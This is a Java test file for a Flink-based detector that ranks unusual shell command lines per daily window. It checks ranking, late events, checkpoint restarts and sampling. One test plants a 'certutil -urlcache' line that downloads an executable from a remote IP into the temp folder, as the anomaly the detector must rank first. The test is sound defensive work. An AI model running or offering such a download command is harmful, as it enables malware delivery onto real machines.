package dev.longtail.detectors.flink;

import static dev.longtail.detectors.window.Commands.NEW_YEAR;
import static dev.longtail.detectors.window.Commands.seen;
import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.detectors.forest.IsolationForestDetector;
import dev.longtail.detectors.ranking.ScoredCommand;
import dev.longtail.detectors.ranking.ShardRanker;
import dev.longtail.detectors.window.DetectorWindows;
import dev.longtail.detectors.window.FunnelStage;
import dev.longtail.detectors.window.SampleSize;
import dev.longtail.detectors.window.SampledCommand;
import dev.longtail.detectors.window.ShardWindow;
import dev.longtail.detectors.window.Sighting;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DetectFunctionTest {
  private static final long DAY = Duration.ofDays(1).toMillis();
  private static final int TOP = 5;

  @Test
  void sendsTheTopOfAWindowWhenItCloses() throws Exception {
    try (var shard = open()) {
      shard.sendAll(events(NEW_YEAR, 60));
      shard.send(seen("certutil -urlcache -f http://203.0.113.9/x.exe %TEMP%\\x.exe", NEW_YEAR));
      assertThat(shard.results()).isEmpty();
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(shard.results()).hasSize(TOP).isSortedAccordingTo(ScoredCommand.RANKING);
      assertThat(shard.results().get(0).command().commandLine()).startsWith("certutil");
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(61);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isZero();
      assertThat(shard.timers()).isZero();
    }
  }

  @Test
  void theFirstWindowIsAWarmUpAndSaysSo() throws Exception {
    try (var shard = open()) {
      shard.sendAll(events(NEW_YEAR, 60));
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.WARM_UP)).isEqualTo(10);
    }
    try (var shard = open()) {
      shard.sendAll(events(NEW_YEAR, 20));
      shard.watermark(NEW_YEAR + DAY - 1);
      shard.sendAll(events(NEW_YEAR + DAY, 60));
      shard.watermark(NEW_YEAR + 2 * DAY - 1);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.WARM_UP)).isZero();
    }
  }

  @Test
  void countsRepeatedAndLateEvents() throws Exception {
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR));
      shard.send(seen("ls", NEW_YEAR + 1));
      shard.watermark(NEW_YEAR + DAY - 1);
      shard.send(seen("ls", NEW_YEAR + 2));
      shard.send(seen("pwd", NEW_YEAR + 3));
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(1);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isEqualTo(1);
      assertThat(shard.funnel(FunnelStage.LATE)).isEqualTo(2);
      assertThat(shard.results()).hasSize(1);
    }
  }

  @Test
  void aWindowThatWasClosedBeforeARestartStaysClosed() throws Exception {
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR));
      shard.watermark(NEW_YEAR + DAY - 1);
      checkpoint = shard.checkpoint();
    }
    try (var restarted = open(checkpoint)) {
      restarted.send(seen("pwd", NEW_YEAR + 1));
      assertThat(restarted.funnel(FunnelStage.LATE)).isEqualTo(1);
      assertThat(restarted.timers()).isZero();
    }
  }

  @Test
  void whoGoesOnFromADrainedJobBeginsANewStream() throws Exception {
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.send(seen("ls", NEW_YEAR));
      shard.watermark(Long.MAX_VALUE);
      checkpoint = shard.checkpoint();
    }
    try (var restarted = open(checkpoint)) {
      restarted.send(seen("pwd", NEW_YEAR + DAY));
      restarted.watermark(NEW_YEAR + 2 * DAY - 1);
      assertThat(restarted.results()).hasSize(1);
    }
  }

  @Test
  void sendsOnAtOnceWhatMayBelongToTheSample() throws Exception {
    SampleSize half = new SampleSize(0.5, 10_000);
    List<Sighting> events = new ArrayList<>(events(NEW_YEAR, 400));
    events.addAll(events.subList(0, 100));
    try (var shard = open(WindowClosing.ON_WATERMARK, null, half)) {
      shard.sendAll(events);
      List<SampledCommand> sampled = shard.aside(SideOutputs.SAMPLED);
      List<SampledCommand> first = sampled.stream().filter(SampledCommand::first).toList();
      assertThat(first).doesNotHaveDuplicates().hasSizeBetween(150, 250);
      assertThat(first).extracting(SampledCommand::sighting).isSubsetOf(events);
      assertThat(sampled).hasSizeGreaterThan(first.size());
      shard.watermark(NEW_YEAR + DAY - 1);
      assertThat(shard.funnel(FunnelStage.NOT_SAMPLED)).isEqualTo(500 - sampled.size());
    }
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3})
  void neitherTheOrderOfArrivalNorARestartChangesTheResult(long shuffle) throws Exception {
    List<Sighting> events = new ArrayList<>();
    for (int day = 0; day < 3; day++) {
      events.addAll(events(NEW_YEAR + day * DAY, 200));
    }
    List<ScoredCommand> reference;
    try (var shard = open()) {
      shard.sendAll(events);
      shard.watermark(NEW_YEAR + 3 * DAY);
      reference = shard.results();
    }
    assertThat(reference).hasSize(3 * TOP);

    Collections.shuffle(events, new Random(shuffle));
    int half = events.size() / 2;
    OperatorSubtaskState checkpoint;
    try (var shard = open()) {
      shard.sendAll(events.subList(0, half));
      checkpoint = shard.checkpoint();
      shard.sendAll(events.subList(half, events.size()));
    }
    try (var restarted = open(checkpoint)) {
      restarted.sendAll(events.subList(half, events.size()));
      restarted.watermark(NEW_YEAR + 3 * DAY);
      assertThat(restarted.results()).isEqualTo(reference);
    }
  }

  @Test
  void batchModeClosesWindowsByTheNextOneWithTheSameResult() throws Exception {
    List<Sighting> events = new ArrayList<>(events(NEW_YEAR, 150));
    events.addAll(events(NEW_YEAR + DAY, 150));
    List<ScoredCommand> streaming;
    try (var shard = open()) {
      shard.sendAll(events);
      shard.watermark(Long.MAX_VALUE);
      streaming = shard.results();
    }
    try (var shard = open(WindowClosing.ON_NEXT_WINDOW, null)) {
      events.sort(Comparator.comparingLong(Sighting::firstSeen));
      shard.sendAll(events);
      assertThat(shard.results()).hasSize(TOP);
      shard.watermark(Long.MAX_VALUE);
      assertThat(shard.results()).isEqualTo(streaming);
    }
  }

  private static List<Sighting> events(long start, int count) {
    Random random = new Random(start);
    return IntStream.range(0, count)
        .mapToObj(
            i ->
                seen(
                    "/usr/bin/backup --job nightly --set " + i + "-".repeat(random.nextInt(9)),
                    start + i * 1000L))
        .toList();
  }

  private static WindowedHarness<Sighting, ScoredCommand> open() throws Exception {
    return open(null);
  }

  private static WindowedHarness<Sighting, ScoredCommand> open(OperatorSubtaskState checkpoint)
      throws Exception {
    return open(WindowClosing.ON_WATERMARK, checkpoint);
  }

  private static WindowedHarness<Sighting, ScoredCommand> open(
      WindowClosing closing, OperatorSubtaskState checkpoint) throws Exception {
    return open(closing, checkpoint, null);
  }

  private static WindowedHarness<Sighting, ScoredCommand> open(
      WindowClosing closing, OperatorSubtaskState checkpoint, SampleSize sample) throws Exception {
    return WindowedHarness.shard(
        new DetectFunction(
            DetectorWindows.DAILY,
            closing,
            new ShardWindow.Limits(64, 50),
            new ShardRanker(IsolationForestDetector.DEFAULT, 100, TOP),
            sample,
            1),
        checkpoint);
  }
}
